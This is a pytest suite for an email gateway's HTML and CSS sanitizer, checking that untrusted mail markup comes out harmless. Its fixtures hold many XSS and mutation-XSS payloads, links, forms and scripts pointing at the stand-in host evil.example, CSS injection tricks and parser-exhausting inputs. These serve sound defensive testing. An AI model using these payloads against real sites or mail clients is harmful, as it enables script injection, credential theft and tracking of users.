"""HTML of strangers: what is left of it does nothing, fetches nothing and covers nothing."""

import pytest

from gateway.safe_css import safe_style
from gateway.safe_html import NO_PICTURE, Unshowable, safe_html

REL = 'rel="noopener noreferrer nofollow"'


def clean(html: str) -> str:
    return safe_html(html).html


# What was written, and what is left of it.
HARMLESS = {
    "<script>alert(1)</script>x": "x",
    "<scr<script>ipt>alert(1)</script>x": "ipt&gt;alert(1)x",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>x": "x",
    '<img src="x" onerror="alert(1)">': f'<img src="{NO_PICTURE}">',
    "<img src=`javascript:alert(1)`>": f'<img src="{NO_PICTURE}">',
    "<svg onload=alert(1)><circle/></svg>x": "x",
    # A browser ends the drawing at the picture.
    "<svg><style><img src=x onerror=alert(1)></style></svg>x": f'<img src="{NO_PICTURE}">x',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": "",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>': "<p>x</p>",
    '<a href="javascript:alert(1)">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href=" jAvascript:alert(1)">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="java\nscript:alert(1)">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="vbscript:x">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="//evil.example">x</a>': f'<a target="_blank" {REL}>x</a>',
    '<a href="/accounts/delete">x</a>': f'<a target="_blank" {REL}>x</a>',
    "<form action=//evil.example><input name=password>word<button>Go</button></form>": "word",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>x": "x",
    "<link rel=stylesheet href=//evil.example><style>@import url(//evil.example)</style>x": "x",
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>x': "x",
    "<!--[if mso]><script>alert(1)</script><![endif]-->x": "x",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>x": "x",
    "<p id=top class=inbox name=x>x</p>": "<p>x</p>",
    "<template><img src=x onerror=alert(1)></template>x": "x",
    '<td background="//evil.example/x.png">x</td>': "x",
    "<img srcset='//evil.example/x.png 1x'>": "<img>",
    "<plaintext><img src=x onerror=alert(1)>": "",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>": "alert(1)",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">': f'<img src="{NO_PICTURE}">',
    '<p style="background:url(//evil.example)">x</p>': "<p>x</p>",
    '<b title="&quot;><script>alert(1)</script>">x</b>': '<b title="&quot;&gt;&lt;script&gt;'
    'alert(1)&lt;/script&gt;">x</b>',
}


@pytest.mark.parametrize("html", HARMLESS)
def test_what_is_left(html: str) -> None:
    # Which of the two attributes comes first does not matter.
    left = clean(html).replace(f'{REL} target="_blank"', f'target="_blank" {REL}')
    assert left == HARMLESS[html]


@pytest.mark.parametrize("name", ["noscript", "title", "textarea", "xmp", "noembed", "style"])
def test_an_end_hidden_in_an_attribute(name: str) -> None:
    left = clean(f"<{name}><p title='</{name}><img src=x onerror=alert(1)>'></{name}>x")
    assert "onerror" not in left
    assert left.replace(f'<img src="{NO_PICTURE}">', "").count("<") == 0


STYLES = {
    "color: red; font-size: 12px": "color:red;font-size:12px",
    "background: #fff": "background-color:#fff",
    "background-color: rgba(0, 0, 0, .5)": "background-color:rgba(0, 0, 0, .5)",
    "font-family: 'Open Sans', Arial": 'font-family:"Open Sans", Arial',
    "color: red !important": "color:red !important",
    "position: fixed; top: 0; z-index: 9": "",
    "background: url(//evil.example/x)": "",
    "background: red url('//evil.example/x')": "",
    "background: u\\72l(//evil.example/x)": "",
    "background-image: image-set('//evil.example/x' 1x)": "",
    "list-style-type: url(x)": "",
    "width: expression(alert(1))": "",
    "width: calc(1px + attr(x))": "",
    "color: var(--x)": "",
    "behavior: url(x); -moz-binding: url(x)": "",
    "color: red; } body { display: none": "color:red",
    "color: red; @import 'x'; width: 1px": "color:red;width:1px",
    "/*x*/color/**/:/**/red": "color:red",
    "content: 'x'": "",
    "color:": "",
    "\\63olor: red": "color:red",
    "color: red" + " " * 4_000: "",
}


@pytest.mark.parametrize("style", STYLES)
def test_styles_that_stay(style: str) -> None:
    assert safe_style(style) == STYLES[style]


def test_a_link_opens_a_new_page_that_knows_nothing_of_ours() -> None:
    left = clean('<a href="https://shop.example/a?b=1&c" target=_top rel=opener>x</a>')
    assert 'href="https://shop.example/a?b=1&amp;c"' in left
    assert 'target="_blank"' in left
    assert REL in left
    assert "_top" not in left


def test_remote_pictures_are_withheld_until_they_are_asked_for() -> None:
    html = '<img src="https://t.example/p.gif?id=1&amp;x" width=1><img src=HTTP://t.example/2>'
    withheld = safe_html(html)
    assert withheld.blocked == 2
    assert withheld.html.count(f'src="{NO_PICTURE}"') == 2
    assert 'data-remote-src="https://t.example/p.gif?id=1&amp;x"' in withheld.html
    shown = safe_html(html, remote=True)
    assert shown.blocked == 0
    assert 'src="https://t.example/p.gif?id=1&amp;x"' in shown.html
    assert NO_PICTURE not in shown.html


def test_nobody_can_write_a_withheld_picture_themselves() -> None:
    left = clean("<img src='data:0,x' data-remote-src='javascript:alert(1)'>")
    assert left == f'<img src="{NO_PICTURE}">'


def test_pictures_that_came_with_it() -> None:
    html = '<img src="cid:Image001.png%4001D"><img src="CID:other">'
    left = safe_html(html, pictures={"<image001.png@01D>": "/files/1"})
    assert left.html == f'<img src="/files/1"><img src="{NO_PICTURE}">'
    assert left.blocked == 0


def test_a_picture_within_the_html() -> None:
    picture = "data:image/png;base64,iVBORw0KGgo="
    assert clean(f'<img src="{picture}">') == f'<img src="{picture}">'
    assert clean(f'<a href="{picture}">x</a>').startswith("<a ")
    assert picture not in clean(f'<a href="{picture}">x</a>')


def test_a_newsletter_keeps_its_looks() -> None:
    html = (
        '<table width=600 bgcolor="#ffffff" cellpadding=0><tr><td align=center style="padding:8px">'
        '<h1 style="color:#333">Hi</h1><p>A<br>B</p><ul><li>1</li></ul></td></tr></table>'
    )
    left = clean(html)
    for kept in ('width="600"', 'bgcolor="#ffffff"', 'align="center"', 'style="padding:8px"'):
        assert kept in left
    assert '<h1 style="color:#333">Hi</h1><p>A<br>B</p><ul><li>1</li></ul>' in left


@pytest.mark.parametrize(
    "html", ["<div>" * 2_000, "<b><i>" * 1_000, "<p " + "a=1 " * 20_000 + ">", "<p" + "/a" * 20_000]
)
def test_what_would_choke_the_parser_is_refused(html: str) -> None:
    with pytest.raises(Unshowable):
        safe_html(html)


def test_a_long_mail_with_a_large_picture_is_not_refused() -> None:
    picture = "data:image/png;base64," + "AB/+" * 100_000
    html = f'<img src="{picture}">' + "<p>line of text</p>" * 10_000 + "<p>x<br>y" * 5_000
    assert len(clean(html)) > 400_000
